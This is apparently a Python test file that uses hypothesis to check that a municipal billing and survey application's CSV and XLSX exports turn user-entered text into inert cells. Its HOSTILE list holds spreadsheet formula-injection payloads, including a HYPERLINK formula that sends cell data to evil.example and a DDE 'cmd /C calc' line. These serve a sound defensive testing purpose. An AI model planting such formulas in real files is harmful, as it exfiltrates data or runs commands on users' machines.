"""Whatever people type into a name or a comment leaves every CSV and XLSX export as inert text.

The exports are called with their real inputs (the frozen dataclasses and contexts the views
hand them), filled with generated text: formulas, OWASP's trigger characters, control
characters, any Unicode. The files are read back as Excel would get them: CSV with the csv
module, XLSX with openpyxl.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import openpyxl
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from costsharing import exports as costsharing_exports
from costsharing.computation import MemberRow, ModuleInfo, YearAllocation
from costsharing.explanations import Component
from costsharing.figures import Billing
from costsharing.notices import Addressee, Notice, NoticeLine
from izd.spreadsheet import FORMULA_TRIGGERS, neutralise, xlsx_text
from maturity import exports as maturity_exports
from maturity.models import Campaign
from maturity.selectors import CountyCell, CountyOverview, CountyRow
from maturity.structure import DimensionInfo, ModelStructure

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1;"Klick")',
    "=1+1",
    "+49 6051 1234",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    "#N/A",
    "=cmd|' /C calc'!A0",
]
TEXT = st.one_of(
    st.sampled_from(HOSTILE),
    st.tuples(st.sampled_from(FORMULA_TRIGGERS), st.text()).map("".join),
    st.text(min_size=1),
)
GERMAN_NUMBER = re.compile(r"-?[0-9]+(,[0-9]+)?")
PROPERTY = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def _csv_cells(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def _xlsx_cells(content: bytes) -> list[Any]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_inert_csv(content: bytes, texts: list[str]) -> None:
    cells = [cell for row in _csv_cells(content) for cell in row]
    for cell in cells:
        if cell.startswith(FORMULA_TRIGGERS):
            assert GERMAN_NUMBER.fullmatch(cell), f"CSV-Zelle beginnt wie eine Formel: {cell!r}"
    for text in texts:
        assert neutralise(text) in cells, f"{text!r} fehlt im CSV"


def _assert_inert_xlsx(content: bytes, texts: list[str]) -> None:
    cells = _xlsx_cells(content)
    for cell in cells:
        assert cell.data_type != "f", f"XLSX-Zelle {cell.coordinate} ist eine Formel"
        if isinstance(cell.value, str):
            assert cell.data_type == "s", cell.coordinate
            if cell.value.startswith(FORMULA_TRIGGERS):
                assert cell.quotePrefix, f"{cell.coordinate} ohne Textkennzeichen"
    values = {cell.value for cell in cells}
    for text in texts:
        assert xlsx_text(text) in values, f"{text!r} fehlt im XLSX"


def _allocation(names: list[str], module_name: str) -> YearAllocation:
    money = Decimal("-1234.50")  # a negative amount must stay a number
    module = ModuleInfo("ozg", module_name, Decimal("100.00"), Decimal("100.00"))
    rows = tuple(
        MemberRow(
            municipality_id=i,
            name=name,
            ags=f"0643500{i}",
            months=12,
            population=1000 + i,
            usage_units=Decimal("1.25"),
            module_keys=("ozg",),
            base=money,
            population_amount=money,
            usage=money,
            modules=money,
            module_parts={"ozg": money},
            total=money,
            grant_credit=money,
            payable=money,
        )
        for i, name in enumerate(names, start=1)
    )
    # The export reads the year, the modules and the rows; key and budget are the engine's.
    return YearAllocation(year=2026, key=None, budget=None, modules=(module,), rows=rows)  # type: ignore[arg-type]


@PROPERTY
@given(names=st.lists(TEXT, min_size=1, max_size=3), module_name=TEXT)
def test_allocation_exports_keep_every_name_as_text(names, module_name):
    allocation = _allocation(names, module_name)
    csv_content = costsharing_exports.allocation_csv(allocation)
    _assert_inert_csv(csv_content, names)
    assert "-1234,50" in [cell for row in _csv_cells(csv_content) for cell in row]
    xlsx_content = costsharing_exports.allocation_xlsx(allocation)
    _assert_inert_xlsx(xlsx_content, names)
    numbers = [c.value for c in _xlsx_cells(xlsx_content) if c.data_type == "n"]
    assert Decimal("-1234.50") in [Decimal(str(v)) for v in numbers if v is not None]


def _notice(label: str, note: str, component: str, text: str) -> Notice:
    line = NoticeLine(
        label=label,
        year=2026,
        amount=Decimal("-10.00"),
        kind="back_charge",
        version=1,
        note=note,
        components=(Component(component, Decimal("5.00"), text),),
    )
    return Notice(
        year=2026,
        number="IZD-2026-06435001-V1",
        issued_on=date(2026, 1, 2),
        due_on=date(2026, 2, 1),
        provisional=False,
        note="",
        municipality=Addressee(1, "Gemeinde", "06435001", "", "", "", ""),
        billing=Billing(),
        issuer=None,
        legal_note=(),
        current=None,
        components=(),
        rounding_rule="",
        lines=(line,),
        total=Decimal("-10.00"),
        version=1,
    )


@PROPERTY
@given(label=TEXT, note=TEXT, component=TEXT, text=TEXT)
def test_notice_exports_keep_labels_and_notes_as_text(label, note, component, text):
    context = _notice(label, note, component, text)
    # The component label is indented by two spaces in both formats.
    expected = [label, note, text]
    _assert_inert_csv(costsharing_exports.notice_csv(context), expected)
    _assert_inert_xlsx(costsharing_exports.notice_xlsx(context), expected)


def _overview(names: list[str], dimension_title: str) -> CountyOverview:
    dimension = DimensionInfo(
        id=1,
        key="d1",
        title=dimension_title,
        description="",
        weight=Decimal(1),
        position=1,
        questions=(),
    )
    structure = ModelStructure(
        version_id=1, key="m", version="1", title="Modell", levels=(), dimensions=(dimension,)
    )
    rows = [
        CountyRow(
            cells=(CountyCell(Decimal("-12.5"), 1),),
            name=name,
            slug=f"k{i}",
            ags=f"0643500{i}",
            status="submitted",
            answered_count=3,
            question_count=4,
            overall_index=Decimal("50.0"),
            submitted_at=None,
            reminded_at=None,
            updated_at=datetime(2026, 1, 2, 3, 4, tzinfo=UTC),
        )
        for i, name in enumerate(names, start=1)
    ]
    return CountyOverview(
        campaign=Campaign(name="Erhebung"),
        structure=structure,
        rows=rows,
        counts={},
        sort="name",
        descending=False,
    )


@PROPERTY
@given(names=st.lists(TEXT, min_size=1, max_size=3), dimension_title=TEXT)
def test_county_overview_exports_keep_names_and_titles_as_text(names, dimension_title):
    overview = _overview(names, dimension_title)
    csv_content = maturity_exports.csv_bytes(overview)
    _assert_inert_csv(csv_content, [*names, dimension_title])
    assert "-12,5" in [cell for row in _csv_cells(csv_content) for cell in row]
    _assert_inert_xlsx(maturity_exports.xlsx_bytes(overview), [*names, dimension_title])


def test_the_reported_hyperlink_formula_is_text_in_every_export():
    name = '=HYPERLINK("http://evil.example/?x="&A1;"Klick")'
    allocation = _allocation([name], "OZG")
    cell = next(
        c for c in _xlsx_cells(costsharing_exports.allocation_xlsx(allocation)) if c.value == name
    )
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
    assert ["'" + name] == [
        c
        for row in _csv_cells(costsharing_exports.allocation_csv(allocation))
        for c in row
        if name in c
    ]
